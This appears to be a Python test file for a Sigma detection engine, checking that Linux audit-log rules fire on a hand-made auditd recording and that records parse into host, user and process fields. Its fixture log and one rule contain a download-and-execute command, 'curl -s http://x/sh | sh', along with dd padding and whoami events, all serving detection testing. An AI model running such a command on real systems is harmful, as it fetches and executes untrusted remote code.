"""Issue 12, cause 8: Sigma rules for Linux logs are evaluated over a recording's Linux audit log.

A hand-made `auditd` log (text records, one kernel event's records together, hex-encoded
arguments, a `node=` prefix and the enriched `AUID=` name) against hand-written rules of the
three Linux kinds SigmaHQ writes for audit data: a `process_creation` rule (Sysmon-for-Linux
field names), an `auditd` rule on record fields, and an `auditd` keyword search. Before, the
engine ran no Linux rule at all and the importer did not read `host/*.log.xz`.
"""

from __future__ import annotations

import lzma
from pathlib import Path

from simulations.importers.otrf.entities import entities
from simulations.importers.otrf.events import stream
from simulations.importers.sigma.engine import evaluate
from simulations.importers.sigma.rules import load_rules
from tests.simulations.test_sigma_engine import _rule

NODE = "web01.lab.local"
LOG = [
    # a shell runs `curl -s http://x/sh | sh` as www-data: the argument with spaces is hex
    f"node={NODE} type=SYSCALL msg=audit(1700000000.100:501): arch=c000003e syscall=59 success=yes"
    ' exit=0 ppid=880 pid=901 auid=33 uid=33 comm="curl" exe="/usr/bin/curl" key=(null)'
    ' AUID="www-data" UID="www-data"',
    f'node={NODE} type=EXECVE msg=audit(1700000000.100:501): argc=3 a0="curl" a1="-s"'
    " a2=687474703A2F2F782F7368207C207368",
    f'node={NODE} type=CWD msg=audit(1700000000.100:501): cwd="/var/www"',
    f'node={NODE} type=PATH msg=audit(1700000000.100:501): item=0 name="/usr/bin/curl"'
    " nametype=NORMAL",
    "garbage line, not a record",
    # the padding of a binary with dd (keyword rule), by the same user, a minute later
    f"node={NODE} type=SYSCALL msg=audit(1700000060.000:502): arch=c000003e syscall=59 success=yes"
    ' exit=0 ppid=880 pid=902 auid=33 uid=33 comm="dd" exe="/bin/dd" key=(null)'
    ' AUID="www-data" UID="www-data"',
    f'node={NODE} type=EXECVE msg=audit(1700000060.000:502): argc=3 a0="dd" a1="if=/dev/zero"'
    ' a2="bs=1"',
    # a failed exec of whoami: no process was created
    f"node={NODE} type=SYSCALL msg=audit(1700000070.000:503): arch=c000003e syscall=59 success=no"
    ' exit=-2 ppid=880 pid=903 auid=33 uid=33 comm="sh" exe="/bin/sh" key=(null)',
    f'node={NODE} type=EXECVE msg=audit(1700000070.000:503): argc=1 a0="whoami"',
]


def _recording(folder: Path) -> Path:
    (folder / "host").mkdir(parents=True)
    with lzma.open(folder / "host" / "audit.log.xz", "wt", encoding="utf-8") as out:
        out.writelines(line + "\n" for line in LOG)
    return folder


def _linux_rules(folder: Path) -> Path:
    linux = {"product": "linux"}
    _rule(
        folder,
        "curl_piped_to_shell",
        {**linux, "category": "process_creation"},
        {
            "selection": {"Image|endswith": "/curl", "CommandLine|contains": "| sh"},
            "condition": "selection",
        },
    )
    _rule(
        folder,
        "whoami_linux",  # the failed exec started no process: no hit
        {**linux, "category": "process_creation"},
        {"selection": {"CommandLine": "whoami"}, "condition": "selection"},
    )
    _rule(
        folder,
        "curl_syscall",
        {**linux, "service": "auditd"},
        {"selection": {"type": "SYSCALL", "exe|endswith": "/curl"}, "condition": "selection"},
    )
    _rule(
        folder,
        "dd_padding",
        {**linux, "service": "auditd"},
        {
            "execve": {"type": "EXECVE"},
            "dd": {"|all": ["dd", "if="]},
            "out": ["of="],
            "condition": "execve and dd and not out",
        },
    )
    _rule(
        folder,
        "linux_syslog",  # no syslog in the recording: not run
        {**linux, "service": "syslog"},
        {"selection": {"message|contains": "error"}, "condition": "selection"},
    )
    _rule(
        folder,
        "windows_whoami",  # no Windows events: not run
        {"product": "windows", "category": "process_creation"},
        {"selection": {"Image|endswith": "\\whoami.exe"}, "condition": "selection"},
    )
    return folder


def test_linux_rules_fire_on_audit_records(tmp_path: Path) -> None:
    loaded = load_rules(_linux_rules(tmp_path / "rules"), tmp_path / "cache")
    assert loaded.rules.failures == {}
    result = evaluate(_recording(tmp_path / "recording"), loaded.rules.rules)
    assert {(h.title, h.source, tuple(h.rows)) for h in result.hits} == {
        ("Curl Piped To Shell", "audit.log.xz", (1,)),
        ("Curl Syscall", "audit.log.xz", (0,)),
        ("Dd Padding", "audit.log.xz", (6,)),
    }
    assert (result.rules_run, result.rules_skipped, result.errors) == (4, 2, {})
    assert result.events == len(LOG) - 1


def test_audit_records_name_the_host_user_and_process(tmp_path: Path) -> None:
    events = dict(stream(_recording(tmp_path / "recording") / "host" / "audit.log.xz"))
    execve = events[1]
    assert execve["CommandLine"] == "curl -s http://x/sh | sh"
    assert (execve["CurrentDirectory"], execve["@timestamp"]) == (
        "/var/www",
        "2023-11-14T22:13:20.100Z",
    )
    found = entities(execve)
    assert (found.host, found.user) == ("WEB01", "www-data")
    assert found.process is not None
    assert (found.process.name, found.process.pid) == ("curl", 901)
    assert "Image" not in events[8]  # the failed exec
